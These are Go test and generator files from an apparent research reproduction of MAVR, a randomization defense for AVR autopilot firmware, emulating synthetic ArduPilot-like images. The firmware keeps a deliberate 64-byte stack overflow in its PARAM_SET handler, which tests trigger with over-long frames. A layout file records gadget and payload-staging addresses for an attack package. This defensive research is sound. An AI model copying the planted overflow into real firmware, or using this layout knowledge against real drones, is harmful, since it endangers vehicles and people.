	if img.Layout.FuncRegionEnd <= img.Layout.FuncRegionStart {
		t.Error("empty function region")
	}
}

func TestGenerateIsDeterministic(t *testing.T) {
	a := genTest(t)
	b := genTest(t)
	if string(a.Flash) != string(b.Flash) {
		t.Error("two generations with the same seed differ")
	}
}

// pulse is one decoded telemetry pulse.
type pulse struct {
	seq, gyro, heading byte
}

// scanDownlink splits the interleaved downlink into pulses and MAVLink
// frames (returned raw).
func scanDownlink(t *testing.T, tx []byte) ([]pulse, [][]byte) {
	t.Helper()
	var pulses []pulse
	var frames [][]byte
	for i := 0; i < len(tx); {
		switch tx[i] {
		case firmware.PulseMagic:
			if i+firmware.PulseSize > len(tx) {
				return pulses, frames // trailing partial pulse
			}
			pulses = append(pulses, pulse{tx[i+1], tx[i+2], tx[i+3]})
			i += firmware.PulseSize
		case 0xFE:
			if i+2 > len(tx) {
				return pulses, frames
			}
			n := 6 + int(tx[i+1]) + 2
			if i+n > len(tx) {
				return pulses, frames
			}
			frames = append(frames, tx[i:i+n])
			i += n
		default:
			t.Fatalf("garbage byte 0x%02X at downlink offset %d", tx[i], i)
		}
	}
	return pulses, frames
}

func TestBootProducesTelemetryPulses(t *testing.T) {
	img := genTest(t)
	tb := boot(t, img)
	if f := tb.run(t, 300000); f != nil {
		t.Fatalf("fault during boot: %v", f)
	}
	pulses, _ := scanDownlink(t, tb.tx)
	if len(pulses) < 3 {
		t.Fatalf("only %d pulses", len(pulses))
	}
	// Sequence numbers increase by one per pulse.
	for i := 1; i < len(pulses); i++ {
		if pulses[i].seq != pulses[i-1].seq+1 {
			t.Fatalf("pulse seq gap at %d: %d -> %d", i, pulses[i-1].seq, pulses[i].seq)
		}
	}
	// The gyro byte reflects raw sample + config (config starts 0);
	// the very first pulse precedes the first gyro_update.
	if pulses[1].gyro != 10 {
		t.Errorf("gyro byte = %d, want 10", pulses[1].gyro)
	}
}

// The firmware emits checksum-valid MAVLink HEARTBEAT and RAW_IMU
// frames on schedule.
func TestFirmwareEmitsValidHeartbeats(t *testing.T) {
	img := genTest(t)
	tb := boot(t, img)
	if f := tb.run(t, 3_000_000); f != nil {
		t.Fatalf("fault: %v", f)
	}
	_, frames := scanDownlink(t, tb.tx)
	if len(frames) < 3 {
		t.Fatalf("only %d MAVLink frames", len(frames))
	}
	heartbeats, imus := 0, 0
	var lastSeq byte
	for i, raw := range frames {
		f, n, err := mavlink.Unmarshal(raw)
		if err != nil {
			t.Fatalf("frame %d invalid: %v (% X)", i, err, raw)
		}
		if n != len(raw) {
			t.Fatalf("frame %d: consumed %d of %d", i, n, len(raw))
		}
		// All downlink frames share one MAVLink sequence counter.
		if i > 0 && f.Seq != lastSeq+1 {
			t.Errorf("frame %d: seq %d -> %d", i, lastSeq, f.Seq)
		}
		lastSeq = f.Seq
		switch f.MsgID {
		case mavlink.MsgIDHeartbeat:
			heartbeats++
			hb, err := mavlink.UnmarshalHeartbeat(f.Payload)
			if err != nil {
				t.Fatal(err)
			}
			if hb.SystemStatus != mavlink.StateActive {
				t.Errorf("frame %d: status %d, want active", i, hb.SystemStatus)
			}
			if hb.Autopilot != 3 || hb.Type != 1 {
				t.Errorf("frame %d: type/autopilot %d/%d", i, hb.Type, hb.Autopilot)
			}
		case mavlink.MsgIDRawIMU:
			imus++
			imu, err := mavlink.UnmarshalRawIMU(f.Payload)
			if err != nil {
				t.Fatal(err)
			}
			// The x-gyro channel carries the live sensor value
			// (raw sample 10 + config 0).
			if imu.Xgyro != 10 {
				t.Errorf("frame %d: xgyro %d, want 10", i, imu.Xgyro)
			}
		default:
			t.Errorf("frame %d: unexpected msgid %d", i, f.MsgID)
		}
	}
	if heartbeats == 0 || imus == 0 {
		t.Errorf("heartbeats=%d raw_imu=%d — both streams expected", heartbeats, imus)
	}
}

// The navigation task derives the heading from the active waypoint in
// the .data mission table.
func TestNavUpdateDerivesHeadingFromWaypoints(t *testing.T) {
	img := genTest(t)
	tb := boot(t, img)
	if f := tb.run(t, 500_000); f != nil {
		t.Fatalf("fault: %v", f)
	}
	wp := int(img.Layout.WaypointsAddr)
	lat := tb.cpu.Data[wp]
	lon := tb.cpu.Data[wp+2]
	want := lat ^ lon // waypoint 0 active while uptime < 256
	if got := tb.cpu.Data[firmware.AddrHeading]; got != want {
		t.Errorf("heading = 0x%02X, want 0x%02X (wp0 lat 0x%02X lon 0x%02X)", got, want, lat, lon)
	}
	pulses, _ := scanDownlink(t, tb.tx)
	if len(pulses) == 0 || pulses[len(pulses)-1].heading != want {
		t.Error("heading not reported in telemetry")
	}
}

// A conformant PARAM_SET frame must land in AddrParamVal.
func TestParamSetRoundTripThroughFirmware(t *testing.T) {
	img := genTest(t)
	tb := boot(t, img)
	ps := &mavlink.ParamSet{ParamValue: 0, ParamID: "RATE_RLL_P"}
	payload := ps.Marshal()
	payload[0], payload[1], payload[2], payload[3] = 0x11, 0x22, 0x33, 0x44
	fr := &mavlink.Frame{MsgID: mavlink.MsgIDParamSet, Payload: payload}
	wire, err := fr.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	tb.rx = append(tb.rx, wire...)
	if f := tb.run(t, 2000000); f != nil {
		t.Fatalf("fault: %v", f)
	}
	got := tb.cpu.Data[firmware.AddrParamVal : firmware.AddrParamVal+4]
	want := []byte{0x11, 0x22, 0x33, 0x44}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("param value = % X, want % X", got, want)
		}
	}
}

// An over-long PARAM_SET with garbage payload smashes the handler's
// stack frame; the board must end up executing garbage (a fault), which
// is the paper's pre-stealth V1 symptom.
func TestOverflowWithGarbageCrashes(t *testing.T) {
	img := genTest(t)
	tb := boot(t, img)
	fr := &mavlink.Frame{MsgID: mavlink.MsgIDParamSet, Payload: make([]byte, 200)}
	for i := range fr.Payload {
		fr.Payload[i] = 0xEE
	}
	wire, err := fr.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	tb.rx = append(tb.rx, wire...)
	f := tb.run(t, 2000000)
	if f == nil {
		t.Fatal("no fault after 200-byte overflow of a 64-byte buffer")
	}
}

// The patched (non-vulnerable) firmware clamps the copy and survives
// the same over-long frame.
func TestClampedHandlerSurvivesOverflow(t *testing.T) {
	spec := firmware.TestApp()
	spec.Vulnerable = false
	img, err := firmware.Generate(spec, firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	tb := boot(t, img)
	fr := &mavlink.Frame{MsgID: mavlink.MsgIDParamSet, Payload: make([]byte, 200)}
	for i := range fr.Payload {
		fr.Payload[i] = 0xEE
	}
	wire, err := fr.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	tb.rx = append(tb.rx, wire...)
	if f := tb.run(t, 2000000); f != nil {
		t.Fatalf("clamped firmware faulted: %v", f)
	}
}

// The gyroscope configuration byte — loaded from persistent EEPROM
// configuration at startup (Fig. 1) — has a continuous effect on the
// reported sensor value (paper §IV-C).
func TestGyroConfigAffectsTelemetry(t *testing.T) {
	img := genTest(t)
	tb := boot(t, img)
	tb.cpu.EEPROM[firmware.EEPROMCfgAddr] = 100
	if f := tb.run(t, 300000); f != nil {
		t.Fatalf("fault: %v", f)
	}
	// Find a pulse and check its gyro byte = 10 + 100.
	found := false
	for i := 0; i+2 < len(tb.tx); i += firmware.PulseSize {
		if tb.tx[i] == firmware.PulseMagic && tb.tx[i+2] == 110 {
			found = true
			break
		}
	}
	if !found {
		t.Errorf("no pulse reported gyro 110; tx: % X", tb.tx[:minInt(24, len(tb.tx))])
	}
}

func TestTableIFunctionCounts(t *testing.T) {
	if testing.Short() {
		t.Skip("full-size generation")
	}
	for _, spec := range firmware.Profiles() {
		img, err := firmware.Generate(spec, firmware.ModeMAVR)
		if err != nil {
			t.Fatalf("%s: %v", spec.Name, err)
		}
		if got := len(img.ELF.FuncSymbols()); got != spec.Functions {
			t.Errorf("%s: %d function symbols, want %d (Table I)", spec.Name, got, spec.Functions)
		}
		if got := len(img.Flash); got != spec.TargetSize {
			t.Errorf("%s: image %d bytes, want %d (Table III)", spec.Name, got, spec.TargetSize)
		}
	}
}

func TestTableIIIStockSizes(t *testing.T) {
	if testing.Short() {
		t.Skip("full-size generation")
	}
	spec := firmware.Arduplane()
	img, err := firmware.Generate(spec, firmware.ModeStock)
	if err != nil {
		t.Fatal(err)
	}
	if got := len(img.Flash); got != spec.TargetSizeStock {
		t.Errorf("stock image %d bytes, want %d", got, spec.TargetSizeStock)
	}
	if img.SharedPrologues == 0 {
		t.Error("stock build used no shared call prologues")
	}
	if img.RelaxedCalls == 0 {
		t.Error("stock build relaxed no calls")
	}
	if got := len(img.ELF.FuncSymbols()); got != spec.Functions {
		t.Errorf("stock build has %d function symbols, want %d", got, spec.Functions)
	}
}

// The stock-mode test app must also boot and fly.
func TestStockModeBoots(t *testing.T) {
	spec := firmware.TestApp()
	img, err := firmware.Generate(spec, firmware.ModeStock)
	if err != nil {
		t.Fatal(err)
	}
	tb := boot(t, img)
	if f := tb.run(t, 500000); f != nil {
		t.Fatalf("stock firmware faulted: %v", f)
	}
	if len(tb.tx) < firmware.PulseSize {
		t.Error("no telemetry from stock firmware")
	}
}

// Scheduler dispatch must exercise the data-section function-pointer
// tables without faulting over many iterations (icall through stubs and
// direct pointers).
func TestSchedulerDispatchAllTasks(t *testing.T) {
	img := genTest(t)
	tb := boot(t, img)
	if f := tb.run(t, 3000000); f != nil {
		t.Fatalf("fault while rotating scheduler tasks: %v", f)
	}
	idx := tb.cpu.Data[firmware.AddrSchedIdx]
	if idx < 16 {
		t.Errorf("scheduler index only reached %d after 3M cycles", idx)
	}
}

func TestPointerGroundTruthConsistent(t *testing.T) {
	img := genTest(t)
	if len(img.PtrFlashOffsets) != len(img.PtrDataAddrs) {
		t.Fatal("pointer metadata length mismatch")
	}
	want := img.Layout.SchedTableLen + img.Layout.DirectTableLen
	if len(img.PtrFlashOffsets) != want {
		t.Errorf("pointer count = %d, want %d", len(img.PtrFlashOffsets), want)
	}
	// Every pointer word must target a valid flash word address.
	for i, off := range img.PtrFlashOffsets {
		w := uint32(img.Flash[off]) | uint32(img.Flash[off+1])<<8
		if int(w)*2 >= len(img.Flash) {
			t.Errorf("pointer %d targets word 0x%X beyond image", i, w)
		}
	}
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}
