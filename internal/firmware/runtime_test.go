package firmware_test

import (
	"testing"

	"mavr/internal/avr"
	"mavr/internal/firmware"
	"mavr/internal/mavlink"
)

// The timer ISR advances the uptime counter; the interrupt machinery
// (vector table, register save/restore, reti) must work end to end.
func TestTimerISRAdvancesUptime(t *testing.T) {
	img := genTest(t)
	tb := boot(t, img)
	// Let the firmware boot and enable interrupts.
	if f := tb.run(t, 100_000); f != nil {
		t.Fatalf("fault: %v", f)
	}
	for i := 0; i < 5; i++ {
		tb.cpu.RaiseInterrupt(avr.VectorTimer0Ovf)
		if f := tb.run(t, 20_000); f != nil {
			t.Fatalf("fault during ISR %d: %v", i, f)
		}
	}
	uptime := uint16(tb.cpu.Data[firmware.AddrUptime]) | uint16(tb.cpu.Data[firmware.AddrUptime+1])<<8
	if uptime != 5 {
		t.Errorf("uptime = %d, want 5", uptime)
	}
}

// Interrupt load must not corrupt the MAVLink receive path.
func TestParamSetUnderInterruptLoad(t *testing.T) {
	img := genTest(t)
	tb := boot(t, img)
	ps := &mavlink.ParamSet{ParamID: "RATE"}
	payload := ps.Marshal()
	payload[0] = 0x5C
	fr := &mavlink.Frame{MsgID: mavlink.MsgIDParamSet, Payload: payload}
	wire, err := fr.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	tb.rx = append(tb.rx, wire...)
	for i := 0; i < 200; i++ {
		tb.cpu.RaiseInterrupt(avr.VectorTimer0Ovf)
		if f := tb.run(t, 10_000); f != nil {
			t.Fatalf("fault: %v", f)
		}
	}
	if got := tb.cpu.Data[firmware.AddrParamVal]; got != 0x5C {
		t.Errorf("param value = 0x%02X, want 0x5C (corrupted under interrupts)", got)
	}
}

// PARAM_SET values persist to EEPROM (Fig. 1 configuration storage).
func TestParamSetPersistsToEEPROM(t *testing.T) {
	img := genTest(t)
	tb := boot(t, img)
	ps := &mavlink.ParamSet{ParamID: "X"}
	payload := ps.Marshal()
	payload[0] = 0x99
	fr := &mavlink.Frame{MsgID: mavlink.MsgIDParamSet, Payload: payload}
	wire, err := fr.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	tb.rx = append(tb.rx, wire...)
	if f := tb.run(t, 2_000_000); f != nil {
		t.Fatalf("fault: %v", f)
	}
	if got := tb.cpu.EEPROM[firmware.EEPROMParamAddr]; got != 0x99 {
		t.Errorf("EEPROM param byte = 0x%02X, want 0x99", got)
	}
}

// The canary build detects the overflow before the corrupted return
// address is used, but — as §IX notes — offers no recovery: the board
// halts.
func TestStackCanaryDetectsOverflowButCannotRecover(t *testing.T) {
	spec := firmware.TestApp()
	spec.StackCanaries = true
	img, err := firmware.Generate(spec, firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	tb := boot(t, img)
	fr := &mavlink.Frame{MsgID: mavlink.MsgIDParamSet, Payload: make([]byte, 200)}
	for i := range fr.Payload {
		fr.Payload[i] = 0xEE
	}
	wire, err := fr.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	tb.rx = append(tb.rx, wire...)
	fault := tb.run(t, 3_000_000)
	if fault == nil {
		t.Fatal("canary build kept running after smashing")
	}
	if fault.Kind != avr.FaultBreak {
		t.Errorf("fault = %v, want break (the canary-fail halt)", fault.Kind)
	}
	if got := tb.cpu.Data[firmware.AddrCanaryFails]; got != 1 {
		t.Errorf("canary-fail counter = %d, want 1", got)
	}
}

// The canary build still processes legitimate parameters.
func TestStackCanaryAllowsBenignTraffic(t *testing.T) {
	spec := firmware.TestApp()
	spec.StackCanaries = true
	img, err := firmware.Generate(spec, firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	tb := boot(t, img)
	ps := &mavlink.ParamSet{ParamID: "OK"}
	payload := ps.Marshal()
	payload[0] = 0x33
	fr := &mavlink.Frame{MsgID: mavlink.MsgIDParamSet, Payload: payload}
	wire, err := fr.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	tb.rx = append(tb.rx, wire...)
	if f := tb.run(t, 2_000_000); f != nil {
		t.Fatalf("fault: %v", f)
	}
	if got := tb.cpu.Data[firmware.AddrParamVal]; got != 0x33 {
		t.Errorf("param value = 0x%02X, want 0x33", got)
	}
	if got := len(img.ELF.FuncSymbols()); got != spec.Functions {
		t.Errorf("canary build has %d symbols, want %d", got, spec.Functions)
	}
}

// CanaryHandlerOverhead measures the extra cycles the canary costs per
// handled packet — the runtime cost §IX argues a 96%-utilized APM
// cannot afford (MAVR's runtime cost is zero).
func TestCanaryHandlerOverheadIsMeasurable(t *testing.T) {
	measure := func(canary bool) uint64 {
		spec := firmware.TestApp()
		spec.StackCanaries = canary
		img, err := firmware.Generate(spec, firmware.ModeMAVR)
		if err != nil {
			t.Fatal(err)
		}
		tb := boot(t, img)
		ps := &mavlink.ParamSet{ParamID: "T"}
		fr := &mavlink.Frame{MsgID: mavlink.MsgIDParamSet, Payload: ps.Marshal()}
		wire, err := fr.Marshal()
		if err != nil {
			t.Fatal(err)
		}
		// Find handler entry/exit cycle counts across one packet.
		var handler uint32
		for _, s := range img.ELF.FuncSymbols() {
			if s.Name == "handle_param_set" {
				handler = s.Value / 2
			}
		}
		tb.rx = append(tb.rx, wire...)
		ok, _ := tb.cpu.RunUntil(3_000_000, func(c *avr.CPU) bool { return c.PC == handler })
		if !ok {
			t.Fatal("handler never reached")
		}
		entry := tb.cpu.Cycles
		sp := tb.cpu.SP()
		ok, _ = tb.cpu.RunUntil(100_000, func(c *avr.CPU) bool { return c.SP() > sp })
		if !ok {
			t.Fatal("handler never returned")
		}
		return tb.cpu.Cycles - entry
	}
	plain := measure(false)
	canary := measure(true)
	if canary <= plain {
		t.Errorf("canary handler (%d cycles) not slower than plain (%d)", canary, plain)
	}
	t.Logf("handler cycles: plain=%d canary=%d (+%d per packet)", plain, canary, canary-plain)
}

// The prototype profile ships a bootloader in the fixed boot section.
func TestBootloaderGeneration(t *testing.T) {
	img := genTest(t)
	if img.Bootloader == nil {
		t.Fatal("testapp profile has no bootloader")
	}
	if len(img.Bootloader) > firmware.BootloaderMax {
		t.Errorf("bootloader %d bytes exceeds boot section", len(img.Bootloader))
	}
	full := img.FullFlash()
	if len(full) != avr.FlashSize {
		t.Fatalf("full flash = %d bytes", len(full))
	}
	for i, b := range img.Bootloader {
		if full[int(firmware.BootloaderStart)+i] != b {
			t.Fatal("bootloader not at BootloaderStart in full flash")
		}
	}
	// ISP build has none.
	spec := firmware.TestApp()
	spec.Bootloader = false
	isp, err := firmware.Generate(spec, firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	if isp.Bootloader != nil {
		t.Error("hardware-ISP build still has a bootloader")
	}
	if got := isp.FullFlash(); len(got) != len(isp.Flash) {
		t.Error("ISP full flash should equal the application image")
	}
}
