package firmware

import (
	"fmt"

	"mavr/internal/asm"
	"mavr/internal/avr"
)

// fnLabel names generated function i's assembly label.
func fnLabel(i int) string { return fmt.Sprintf("fn_%d", i) }

// emitFunction synthesizes one autopilot function. Functions only ever
// call lower-indexed functions (call-DAG, bounded depth), use the
// call-clobbered registers r0, r18..r27, r30, r31 freely, and preserve
// the callee-saved registers they push. bodyWords is the approximate
// body length to synthesize.
func (g *generator) emitFunction(idx, bodyWords int) {
	b := g.b
	rng := g.rng
	label := fnLabel(idx)
	b.Label(label)

	k := 2
	if rng.Intn(2) == 0 {
		k = 4
	}
	hasFrame := rng.Intn(10) < 4
	frame := 8 + rng.Intn(40)

	// Stock toolchain: share the push/pop sequences via the
	// call-prologue blocks when the return point is LDI-encodable
	// (below 64K words) and the function has no frame pointer.
	shared := g.mode == ModeStock && !hasFrame && b.Here() < 0xF000
	retLabel := label + "_ret"

	switch {
	case shared:
		g.shared++
		b.LDIWordAddr(30, retLabel, 0)
		b.LDIWordAddr(31, retLabel, 8)
		b.JMP(prologueBlockName(k))
		b.Label(retLabel)
	default:
		for _, r := range savedRegs(k) {
			b.Emit(asm.PUSH(r))
		}
	}
	if hasFrame {
		b.Emit(asm.IN(28, avr.IOAddrSPL), asm.IN(29, avr.IOAddrSPH))
		b.Emit(asm.SBIW(28, frame))
		g.emitSPWrite()
	}

	// Pick up to two callees among lower-indexed functions with depth
	// budget remaining, so the dynamic call depth stays bounded.
	var callees []int
	if idx > 0 {
		for i, n := 0, rng.Intn(3); i < n; i++ {
			if c := rng.Intn(idx); g.depth[c] < 2 {
				callees = append(callees, c)
			}
		}
	}
	depth := 0
	for _, c := range callees {
		if g.depth[c]+1 > depth {
			depth = g.depth[c] + 1
		}
	}
	g.depth[idx] = depth

	// Body synthesis: straight-line chunks until the word budget is
	// spent, with the calls spliced in at deterministic points.
	start := b.Here()
	next := 0 // next callee to splice in
	for int(b.Here()-start) < bodyWords {
		used := int(b.Here() - start)
		if next < len(callees) && used >= (next+1)*bodyWords/(len(callees)+1) {
			g.callFunc(callees[next])
			next++
			continue
		}
		g.emitChunk(hasFrame, frame)
	}
	for ; next < len(callees); next++ {
		g.callFunc(callees[next])
	}

	if hasFrame {
		b.Emit(asm.ADIW(28, frame))
		g.emitSPWrite()
	}
	if shared {
		b.JMP(epilogueBlockName(k))
		return
	}
	regs := savedRegs(k)
	for i := len(regs) - 1; i >= 0; i-- {
		b.Emit(asm.POP(regs[i]))
	}
	b.Emit(asm.RET)
}

// callFunc emits a call to generated function c, applying linker
// relaxation (call -> rcall) in stock mode when the target is near.
func (g *generator) callFunc(c int) {
	label := fnLabel(c)
	if g.mode == ModeStock {
		if target, ok := g.b.LabelAddr(label); ok {
			dist := int64(g.b.Here()) - int64(target)
			if dist > -1900 && dist < 1900 {
				g.b.RCALL(label)
				g.relaxed++
				return
			}
		}
	}
	g.b.CALL(label)
}

// call emits a long call to a runtime function.
func (g *generator) call(label string) { g.b.CALL(label) }

// scratch returns a random scratch-cell data address.
func (g *generator) scratch() uint16 {
	return uint16(AddrScratch + g.rng.Intn(0x9E0))
}

// emitChunk appends one plausible straight-line code fragment.
func (g *generator) emitChunk(hasFrame bool, frame int) {
	b := g.b
	rng := g.rng
	switch rng.Intn(8) {
	case 0: // load-modify-store through direct addressing
		a, c := g.scratch(), g.scratch()
		b.Emit2(asm.LDS(24, a))
		b.Emit2(asm.LDS(25, c))
		b.Emit(asm.ADD(24, 25))
		b.Emit2(asm.STS(g.scratch(), 24))
	case 1: // immediate arithmetic
		b.Emit(asm.LDI(24, rng.Intn(256)))
		b.Emit(asm.LDI(25, rng.Intn(256)))
		b.Emit(asm.SUB(24, 25))
		b.Emit(asm.ANDI(24, rng.Intn(256)))
	case 2: // 8x8 multiply with the avr-gcc zero-reg restore
		b.Emit(asm.MUL(24, 25))
		b.Emit(asm.MOVW(18, 0))
		b.Emit(asm.EOR(1, 1))
	case 3: // 16-bit pointer-style arithmetic
		b.Emit(asm.LDI(24, rng.Intn(256)), asm.LDI(25, rng.Intn(64)))
		b.Emit(asm.ADIW(24, rng.Intn(32)))
		b.Emit(asm.SBIW(24, rng.Intn(16)))
	case 4: // frame-local update (only with a frame pointer)
		if hasFrame && frame > 2 {
			q := 1 + rng.Intn(frame-1)
			b.Emit(asm.LDDY(24, q))
			b.Emit(asm.INC(24))
			b.Emit(asm.STDY(q, 24))
		} else {
			b.Emit(asm.INC(24), asm.DEC(25))
		}
	case 5: // shifts and rotates (fixed-point math)
		b.Emit(asm.LSR(24), asm.ROR(25), asm.ASR(24))
	case 6: // compare-and-skip over a store
		b.Emit(asm.CPI(24, rng.Intn(256)))
		b.Emit(asm.SBRC(24, rng.Intn(8)))
		b.Emit(asm.EOR(25, 24))
	default: // bulk register shuffling
		b.Emit(asm.MOV(20, 24), asm.MOV(21, 25), asm.SWAP(20), asm.OR(20, 21))
	}
}
