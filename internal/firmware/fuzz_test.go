package firmware_test

import (
	"math/rand"
	"testing"

	"mavr/internal/firmware"
	"mavr/internal/mavlink"
)

// Random serial garbage must never crash the firmware: the receive
// state machine resynchronizes and only a well-formed over-long
// PARAM_SET can reach the vulnerable copy.
func TestFirmwareSurvivesRandomSerialGarbage(t *testing.T) {
	img := genTest(t)
	rng := rand.New(rand.NewSource(99))
	for trial := 0; trial < 8; trial++ {
		tb := boot(t, img)
		junk := make([]byte, 600)
		rng.Read(junk)
		// Avoid accidentally forming an over-long PARAM_SET: cap any
		// length byte that follows a magic byte. (A real attacker needs
		// a correctly framed packet; random noise triggering the
		// overflow is the 1-in-many case we separately construct.)
		for i := 0; i+1 < len(junk); i++ {
			if junk[i] == 0xFE && junk[i+1] > firmware.HandlerBufBytes {
				junk[i+1] = firmware.HandlerBufBytes
			}
		}
		tb.rx = append(tb.rx, junk...)
		if f := tb.run(t, 3_000_000); f != nil {
			t.Fatalf("trial %d: firmware crashed on garbage: %v", trial, f)
		}
		if len(tb.rx) != 0 {
			t.Fatalf("trial %d: firmware stopped consuming input", trial)
		}
	}
}

// Well-formed frames of every known message id (schema lengths) must be
// consumed without crashing; only PARAM_SET is dispatched.
func TestFirmwareSurvivesAllMessageKinds(t *testing.T) {
	img := genTest(t)
	tb := boot(t, img)
	rng := rand.New(rand.NewSource(7))
	ids := []byte{
		mavlink.MsgIDHeartbeat, mavlink.MsgIDSysStatus, mavlink.MsgIDParamValue,
		mavlink.MsgIDGPSRawInt, mavlink.MsgIDRawIMU, mavlink.MsgIDAttitude,
		mavlink.MsgIDGlobalPositionInt, mavlink.MsgIDMissionItem,
		mavlink.MsgIDMissionCount, mavlink.MsgIDCommandLong, mavlink.MsgIDStatusText,
	}
	for _, id := range ids {
		n, _ := mavlink.ExpectedLen(id)
		payload := make([]byte, n)
		rng.Read(payload)
		fr := &mavlink.Frame{MsgID: id, Payload: payload}
		wire, err := fr.Marshal()
		if err != nil {
			t.Fatal(err)
		}
		tb.rx = append(tb.rx, wire...)
	}
	if f := tb.run(t, 5_000_000); f != nil {
		t.Fatalf("firmware crashed on benign message mix: %v", f)
	}
	if len(tb.rx) != 0 {
		t.Fatal("firmware stopped consuming input")
	}
}

// Truncated and interleaved frames resynchronize.
func TestFirmwareResyncsAfterTruncatedFrames(t *testing.T) {
	img := genTest(t)
	tb := boot(t, img)
	ps := &mavlink.ParamSet{ParamID: "GOOD"}
	payload := ps.Marshal()
	payload[0] = 0x42
	good := &mavlink.Frame{MsgID: mavlink.MsgIDParamSet, Payload: payload}
	wire, err := good.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	// A truncated frame (header only), then garbage, then a good frame.
	tb.rx = append(tb.rx, wire[:9]...)
	// The state machine is mid-frame; it will consume the next bytes as
	// payload/CRC. Feed filler until it resets, then the real frame.
	tb.rx = append(tb.rx, make([]byte, 40)...)
	tb.rx = append(tb.rx, wire...)
	if f := tb.run(t, 4_000_000); f != nil {
		t.Fatalf("fault: %v", f)
	}
	if got := tb.cpu.Data[firmware.AddrParamVal]; got != 0x42 {
		t.Errorf("param value 0x%02X after resync, want 0x42", got)
	}
}
