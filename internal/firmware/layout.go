package firmware

// Data-space layout of the synthetic autopilot. These addresses are
// stable across applications and toolchain modes; the attack package
// uses them the way the paper's attacker uses knowledge of the
// unprotected binary.
const (
	// AddrGyro holds the gyroscope X reading (the sensor value the
	// paper's attack V1 modifies).
	AddrGyro = 0x0200
	// AddrGyroCfg is the gyroscope configuration byte added into every
	// reading — the paper notes attackers would target configuration
	// state for a continuous effect (§IV-C).
	AddrGyroCfg = 0x0206
	// AddrParamVal is where handle_param_set stores the decoded value.
	AddrParamVal = 0x0208
	// AddrHBSeq is the telemetry pulse sequence counter.
	AddrHBSeq = 0x020C
	// RX state machine registers.
	AddrRxState = 0x020D
	AddrRxLen   = 0x020E
	AddrRxIdx   = 0x020F
	AddrRxMsgID = 0x0210
	// AddrSchedIdx is the scheduler's rotating task index.
	AddrSchedIdx = 0x0211
	// AddrWritePtr is a two-byte global pointer used by the function
	// hosting the write_mem_gadget (Fig. 5); during normal operation it
	// aims the gadget's std Y+q stores at the scratch area.
	AddrWritePtr = 0x0212
	// AddrWriteVals is the 3-byte global the write_mem host function
	// loads r5..r7 from.
	AddrWriteVals = 0x0214
	// AddrUptime is a 16-bit tick counter incremented by the TIMER0
	// overflow interrupt handler.
	AddrUptime = 0x0218
	// AddrCanaryFails counts stack-smashing detections when the
	// firmware is built with stack canaries (§IX ablation).
	AddrCanaryFails = 0x021A
	// AddrCurWaypoint is the active waypoint index (0..3).
	AddrCurWaypoint = 0x021C
	// AddrHeading is the commanded heading derived from the active
	// waypoint — the navigation state the paper's abstract says a
	// stealthy attacker can modify.
	AddrHeading = 0x021D
	// AddrMavSeq is the MAVLink heartbeat sequence counter.
	AddrMavSeq = 0x021E
	// AddrTxBuf is the scratch buffer heartbeat frames are built in.
	AddrTxBuf = 0x0500

	// WaypointCount and WaypointSize define the mission table copied
	// into .data at startup: WaypointCount entries of lat/lon bytes.
	WaypointCount = 4
	WaypointSize  = 4

	// AddrDataSection is the load address of the initialized .data
	// section (the scheduler function-pointer tables).
	AddrDataSection = 0x0220
	// AddrRxBuf is the global MAVLink payload buffer (256 bytes).
	AddrRxBuf = 0x0300
	// AddrScratch is the base of the scratch globals used by generated
	// function bodies.
	AddrScratch = 0x0600
	// AddrFreeMem is unused SRAM, where the paper's V3 trampoline
	// attack stages its large payload.
	AddrFreeMem = 0x1000

	// Memory-mapped peripkerals (data-space addresses).
	AddrADCL         = 0x78 // raw gyro sample, supplied by the board model
	AddrUCSR0A       = 0xC0 // USART0 status: bit7 RXC, bit5 UDRE
	AddrUDR0         = 0xC6 // USART0 data register
	AddrWatchdogFeed = 0x25 // PORTB: any write feeds the master's watchdog
	AddrBootNotify   = 0x28 // PORTC: startup handshake pulse to the master

	// BitRXC and BitUDRE are the UCSR0A status bits.
	BitRXC  = 7
	BitUDRE = 5

	// EEPROMCfgAddr is where the persistent gyro configuration lives in
	// EEPROM (Fig. 1: EEPROM holds configuration settings).
	EEPROMCfgAddr = 0
	// EEPROMParamAddr is where the last PARAM_SET value byte is
	// persisted.
	EEPROMParamAddr = 4

	// CanaryByte is the stack-canary fill value for the §IX ablation.
	CanaryByte = 0xC3
)

// Bootloader geometry: the prototype's serial bootloader sits at a
// fixed location at the top of flash (§VI-B4) — static code that
// randomization never moves.
const (
	// BootloaderStart is the byte address of the boot section (8 KB
	// NRWW section of the ATmega2560).
	BootloaderStart = 0x3E000
	// BootloaderMax is the boot section size.
	BootloaderMax = 8 * 1024
)

// Vulnerable-handler frame geometry (see the runtime generator).
const (
	// HandlerBufBytes is the size of handle_param_set's stack buffer.
	HandlerBufBytes = 64
	// HandlerFrameBytes is the full frame allocation.
	HandlerFrameBytes = 80
	// HandlerSavedRegs is the number of single-register pushes in the
	// handler prologue (r29, r28, r17, r16).
	HandlerSavedRegs = 4
	// RxFrameBytes is rx_byte's local frame (packet scratch), which
	// places the vulnerable handler realistically below the top of
	// SRAM.
	RxFrameBytes = 96
)

// Telemetry pulse constants: the firmware emits [PulseMagic, seq, gyro,
// heading] every main-loop iteration, and a full MAVLink HEARTBEAT
// frame every HeartbeatEvery pulses; the ground station's stealth
// monitor watches both streams for gaps, garbage and state changes.
const (
	PulseMagic     = 0xA5
	PulseSize      = 4
	HeartbeatEvery = 64 // pulses between MAVLink heartbeats
	HeartbeatLen   = 17 // 6 header + 9 payload + 2 crc
)

// NumVectors is the ATmega2560 interrupt vector count (reset + 56).
const NumVectors = 57

// Layout records where the generator placed everything; the attack,
// defense and board packages consume it instead of hard-coding offsets.
type Layout struct {
	// VectorWords is the size of the interrupt vector table in words.
	VectorWords uint32
	// StubTableWords is the word address of the first dispatch stub.
	StubTableStart uint32
